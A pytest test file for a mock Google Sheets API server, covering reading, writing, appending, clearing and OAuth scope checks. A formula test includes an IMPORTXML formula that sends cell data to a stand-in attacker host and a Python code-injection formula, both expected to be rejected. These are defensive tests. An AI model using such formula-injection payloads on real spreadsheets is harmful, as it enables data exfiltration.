"""The practice Google's Sheets API: reading and writing values, through real HTTP."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
import requests
from google_world import DRIVE, METADATA, READ_SHEETS, SHEETS, World

from botkit.practice.google.scopes import AUTH


class Book:
    """A spreadsheet of Alice's, and a token that may write in it."""

    def __init__(self, world: World, *titles: str) -> None:
        self.world = world
        self.id = world.google.add_spreadsheet("alice", "Budget", titles or ("Sheet1",))
        self.token = world.token(scope=SHEETS)

    def call(
        self, method: str, range: str, action: str = "", body: Any = None, **params: str
    ) -> requests.Response:
        path = self.world.values(self.id, range, action)
        return self.world.call(self.token, method, path, body, **params)

    def read(self, range: str, **params: str) -> dict[str, Any]:
        answer = self.call("GET", range, **params)
        assert answer.status_code == 200, answer.text
        return dict(answer.json())

    def write(
        self, range: str, values: Any, option: str = "RAW", action: str = "", **params: str
    ) -> dict[str, Any]:
        method = "POST" if action else "PUT"
        body = {"values": values}
        answer = self.call(method, range, action, body, valueInputOption=option, **params)
        assert answer.status_code == 200, answer.text
        return dict(answer.json())


@pytest.fixture
def book() -> Iterator[Book]:
    world = World()
    yield Book(world)
    world.close()


def error_of(answer: requests.Response) -> tuple[int, str, str]:
    error = answer.json()["error"]
    assert error.keys() - {"details"} == {"code", "message", "status"}  # and no `errors`
    assert error["code"] == answer.status_code
    return answer.status_code, error["status"], error["message"]


def test_a_sheet_without_values_has_no_member_values(book: Book) -> None:
    assert book.read("A1:C5") == {"range": "Sheet1!A1:C5", "majorDimension": "ROWS"}


def test_what_is_written_can_be_read_without_its_empty_ends(book: Book) -> None:
    written = book.write("A1:D5", [["a", "", "c", ""], [], ["", "b"]])
    assert written == {
        "spreadsheetId": book.id,
        "updatedRange": "Sheet1!A1:D3",
        "updatedRows": 3,
        "updatedColumns": 4,
        "updatedCells": 6,
    }
    assert book.read("A1:D5")["values"] == [["a", "", "c"], [], ["", "b"]]
    assert book.read("A1:D5", majorDimension="COLUMNS") == {
        "range": "Sheet1!A1:D5",
        "majorDimension": "COLUMNS",
        "values": [["a"], ["", "", "b"], ["c"]],
    }
    assert book.world.google.read_cells(book.id) == [["a", "", "c"], [], ["", "b"]]


def test_raw_keeps_text_as_it_is_and_user_entered_makes_formulas_and_numbers(book: Book) -> None:
    values = [["=1+2", "42", "true", "'=1", "1.50", 7, True]]
    book.write("A1:G1", values, "RAW")
    assert book.read("A1:G1")["values"] == [["=1+2", "42", "true", "'=1", "1.50", "7", "TRUE"]]
    book.write("A2:G2", values, "USER_ENTERED")
    assert book.read("A2:G2")["values"] == [["3", "42", "TRUE", "=1", "1.5", "7", "TRUE"]]
    unformatted = book.read("A2:G2", valueRenderOption="UNFORMATTED_VALUE")["values"]
    assert unformatted == [[3, 42, True, "=1", 1.5, 7, True]]
    assert book.read("A2:B2", valueRenderOption="FORMULA")["values"] == [["=1+2", 42]]


@pytest.mark.parametrize(
    ("formula", "shown"),
    [
        ("=2*(3-1)/4", "1"),
        ("=0.1+0.2", "0.3"),
        ("=-5", "-5"),
        ("=1/0", "#DIV/0!"),
        ("=9e999", "#NUM!"),
        ('=IMPORTXML("https://evil.example/?"&A1)', "#NAME?"),
        ("=__import__('os').getpid()", "#NAME?"),
        ("=", "#NAME?"),
        ("=" + "(" * 5000, "#NAME?"),
        ("=" + "1+" * 5000 + "1", "#NAME?"),
    ],
)
def test_of_formulas_only_arithmetic_is_worked_out(book: Book, formula: str, shown: str) -> None:
    book.write("A1", [[formula]], "USER_ENTERED")
    assert book.read("A1")["values"] == [[shown]]


def test_null_leaves_a_cell_as_it_is_and_an_empty_text_empties_it(book: Book) -> None:
    book.write("A1:C1", [["a", "b", "c"]])
    assert book.write("A1:C1", [[None, "", "x"]])["updatedCells"] == 2
    assert book.read("A1:C1")["values"] == [["a", "", "x"]]


def test_columns_can_be_written(book: Book) -> None:
    body = {"majorDimension": "COLUMNS", "values": [["a", "b"], ["c"]]}
    assert book.call("PUT", "A1:B2", "", body, valueInputOption="RAW").status_code == 200
    assert book.read("A1:B2")["values"] == [["a", "c"], ["b"]]


def test_the_written_values_come_back_when_asked_for(book: Book) -> None:
    params = {"includeValuesInResponse": "true", "responseValueRenderOption": "UNFORMATTED_VALUE"}
    data = book.write("B2", [["=1+2"]], "USER_ENTERED", **params)["updatedData"]
    assert data == {"range": "Sheet1!B2", "majorDimension": "ROWS", "values": [[3]]}


def test_rows_are_appended_below_the_table(book: Book) -> None:
    first = book.write("A1:C1", [["a", "b", "c"]], action=":append")
    assert first == {
        "spreadsheetId": book.id,
        "updates": {
            "spreadsheetId": book.id,
            "updatedRange": "Sheet1!A1:C1",
            "updatedRows": 1,
            "updatedColumns": 3,
            "updatedCells": 3,
        },
    }
    second = book.write("A1:C1", [["d"], ["e"]], action=":append")
    assert second["tableRange"] == "Sheet1!A1:C1"
    assert second["updates"]["updatedRange"] == "Sheet1!A2:A3"
    assert book.read("Sheet1")["values"] == [["a", "b", "c"], ["d"], ["e"]]


@pytest.mark.parametrize(
    ("range", "start"),
    [
        ("Sheet1", "B7"),  # examples of the reference: tables at A1:C2 and B4:D6
        ("B4", "B7"),
        ("C5:D5", "B7"),
        ("B2:D4", "B7"),
        ("A3:G10", "B7"),
        ("A1", "A3"),
        ("E4", "E4"),
        ("A4", "A4"),
    ],
)
def test_the_table_is_the_last_one_that_the_range_touches(
    book: Book, range: str, start: str
) -> None:
    book.write("A1:C2", [["x", "y", "z"], ["x", "y", "z"]])
    book.write("B4:D6", [["x", "y", ""], ["y", "z", "x"], ["", "z", "y"]])
    updates = book.write(range, [["new"]], action=":append")["updates"]
    assert updates["updatedRange"] == f"Sheet1!{start}"


def test_rows_can_be_inserted_or_written_over(book: Book) -> None:
    def fill() -> None:
        book.write("A1:A4", [["a"], [""], ["b"], ["c"]])

    fill()
    book.write("F2", [["far"]])  # not part of the table
    book.write("A1", [["1"], ["2"]], action=":append", insertDataOption="INSERT_ROWS")
    assert book.read("A1:A9")["values"] == [["a"], ["1"], ["2"], [], ["b"], ["c"]]
    assert book.read("F1:F9")["values"] == [[], [], [], ["far"]]
    book.call("POST", "Sheet1", ":clear")
    fill()
    book.write("A1", [["1"], ["2"]], action=":append", insertDataOption="OVERWRITE")
    assert book.read("A1:A9")["values"] == [["a"], ["1"], ["2"], ["c"]]


def test_a_full_sheet_grows_when_a_row_is_appended(book: Book) -> None:
    book.write("A1000", [["last"]])
    updates = book.write("A1000", [["more"]], action=":append")["updates"]
    assert updates["updatedRange"] == "Sheet1!A1001"
    assert book.read("Sheet1")["range"] == "Sheet1!A1:Z1001"


def test_a_range_is_cleared(book: Book) -> None:
    book.write("A1:B2", [["a", "b"], ["c", "d"]])
    answer = book.call("POST", "B1:B1000", ":clear", {})
    assert answer.json() == {"spreadsheetId": book.id, "clearedRange": "Sheet1!B1:B1000"}
    assert book.read("A1:B2")["values"] == [["a"], ["c"]]


def test_the_spreadsheet_lists_its_sheets() -> None:
    world = World()
    book = Book(world, "Plans", "It's done")
    answer = world.call(book.token, "GET", f"/v4/spreadsheets/{book.id}").json()
    fields = "properties.title,sheets.properties(title,index)"
    few = world.call(book.token, "GET", f"/v4/spreadsheets/{book.id}", fields=fields).json()
    world.close()
    assert answer["properties"]["title"] == "Budget"
    assert answer["spreadsheetUrl"] == f"{world.server.url}/spreadsheets/d/{book.id}/edit"
    assert [sheet["properties"]["title"] for sheet in answer["sheets"]] == ["Plans", "It's done"]
    assert few == {
        "properties": {"title": "Budget"},
        "sheets": [
            {"properties": {"title": "Plans", "index": 0}},
            {"properties": {"title": "It's done", "index": 1}},
        ],
    }


def test_a_write_is_a_change_in_drive(book: Book) -> None:
    token = book.world.token(scope=DRIVE)
    place = book.world.drive(token, "changes/startPageToken")["startPageToken"]
    book.read("A1")
    book.write("A1", [["x"]])
    (change,) = book.world.drive(token, "changes", pageToken=place)["changes"]
    assert change["file"]["mimeType"] == "application/vnd.google-apps.spreadsheet"
    assert change["fileId"] == book.id


@pytest.mark.parametrize(
    ("scope", "reads", "writes"),
    [
        (SHEETS, 200, 200),
        (f"{AUTH}drive", 200, 200),
        (READ_SHEETS, 200, 403),
        (DRIVE, 200, 403),
        (METADATA, 403, 403),
    ],
)
def test_each_scope_opens_what_the_reference_says(
    book: Book, scope: str, reads: int, writes: int
) -> None:
    book.token = book.world.token(scope=scope)
    body, raw = {"values": [["x"]]}, {"valueInputOption": "RAW"}
    answers = [book.call("GET", "A1"), book.call("PUT", "A1", "", body, **raw)]
    assert [answer.status_code for answer in answers] == [reads, writes]
    for answer in answers:
        if answer.status_code == 403:
            sentence = "Request had insufficient authentication scopes."
            assert error_of(answer) == (403, "PERMISSION_DENIED", sentence)
            (detail,) = answer.json()["error"]["details"]
            assert detail["reason"] == "ACCESS_TOKEN_SCOPE_INSUFFICIENT"
